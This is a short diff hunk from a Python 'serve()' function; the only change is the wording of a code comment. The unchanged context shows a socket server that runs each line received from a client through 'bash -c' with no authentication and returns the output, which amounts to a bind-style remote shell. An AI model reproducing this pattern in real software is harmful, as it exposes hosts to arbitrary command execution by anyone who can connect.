@@ -18,7 +18,7 @@ def serve():
     while True:
         connection, _ = listener.accept()
         if os.fork() == 0:
-            if os.fork() == 0:  # so that nobody has to wait for it
+            if os.fork() == 0:  # so that no process has to wait for it
                 command = connection.makefile("rb").readline().decode()
                 subprocess.run(["bash", "-c", command], stdin=subprocess.DEVNULL, stdout=connection.fileno(),
                                stderr=connection.fileno(), check=False)
